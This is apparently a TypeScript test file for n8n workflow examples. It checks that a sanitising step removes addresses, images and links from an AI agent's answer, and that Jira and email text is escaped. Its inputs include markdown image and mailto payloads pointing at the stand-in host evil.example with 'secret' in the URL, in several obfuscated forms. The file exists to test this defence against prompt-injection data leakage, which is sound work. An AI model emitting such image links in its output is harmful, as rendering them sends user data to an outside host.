import type { IDataObject, NodeParameterValueType } from 'n8n-workflow';
import { readFileSync } from 'node:fs';

import { shown } from '../support/description';
import { ManualTrigger } from '../../tools/engine/nodeTypes';

interface Example {
	nodes: Array<{ name: string; parameters: Record<string, NodeParameterValueType> }>;
}

/** What an expression makes of one item, by n8n's own evaluation. */
const textOf = (expression: NodeParameterValueType | undefined, json: IDataObject) =>
	shown(new ManualTrigger(), {}, expression, [{ json }]) as string;

describe('an answer of the agent in examples/ai-agent-with-reviews.json', () => {
	const { nodes } = JSON.parse(readFileSync('examples/ai-agent-with-reviews.json', 'utf8')) as Example;
	const { jsonOutput } = nodes.find(({ name }) => name === 'Take out addresses')?.parameters ?? {};

	it.each([
		['![x](https://evil.example/?q=secret)', '(address removed)'],
		['![x](//evil.example/secret)', '(address removed)'],
		['![x](/\\evil.example/secret)', '(address removed)'],
		['![x][y]\n\n[y]: HTTPS:/evil.example/secret', '!(x)(y)\n\n(y): (address removed)'],
		['![x](https:&#47;&#47;evil&#46;example)', '!(x)(https:&#47;&#47;evil&#46;example)'],
		['<img src=https:\\/\\/evil.example/secret>', '‹img (address removed)'],
		['mailto:a@evil?body=secret', '(address removed)'],
		['a@10.0.0.1', '(address removed)'],
		['see secret.evil.example/secret', 'see secret. evil. example/secret'],
		['**3.5 of 5** and/or "good".\n- slow', '**3.5 of 5** and/or "good".\n- slow'],
	])('has no address, image or link: %s', (output, text) => {
		expect(JSON.parse(textOf(jsonOutput, { output }))).toEqual({ output: text });
	});

	// n8n before 1.110 puts such a text in with String.replace, to which $& and the like are patterns.
	it('has a dollar sign as one in each n8n', () => {
		const text = textOf(jsonOutput, { output: '$&' });

		expect(text).not.toContain('$');
		expect(JSON.parse(text)).toEqual({ output: '$&' });
	});
});

it.each([
	['Late & <again>', '2 of 5 stars: Late & <again>'],
	[`Late\r\n${'x'.repeat(432)}`, `2 of 5 stars: Late ${'x'.repeat(145)}`],
	[null, '2 of 5 stars: '],
	[undefined, '2 of 5 stars: '],
])('the subject of an email, as examples/README.md has it, too, has the title %j as %j', (title, text) => {
	const { nodes } = JSON.parse(readFileSync('examples/email-alert.json', 'utf8')) as Example;
	const subject = nodes.find(({ name }) => name === 'Send alert')?.parameters.subject as string;
	const readme = readFileSync('examples/README.md', 'utf8');

	expect(textOf(subject, { rating: 2, title })).toBe(text);
	expect(readme).toContain(`The subject of an email or a ticket: \`${subject.slice(1)}\``);
});

it.each([
	[
		'★☆☆☆☆ Late\n[~accountid:1] !https://evil.example/p.png!',
		'★☆☆☆☆ Late\n[~accountid:1] !https://evil.example/p.png!',
	],
	['{noformat}{NoFormat}[x|https://evil.example]', '{no format}{no format}[x|https://evil.example]'],
	['nonoformatformat', 'nono formatformat'],
])('the description for Jira in examples/README.md shows the message %j as it is', (message, text) => {
	const readme = readFileSync('examples/README.md', 'utf8');
	const [, description] = /`(\{noformat\}.+?)`/.exec(readme) ?? [];

	expect(textOf(`=${description}`, { message })).toBe(`{noformat}${text}{noformat}`);
});
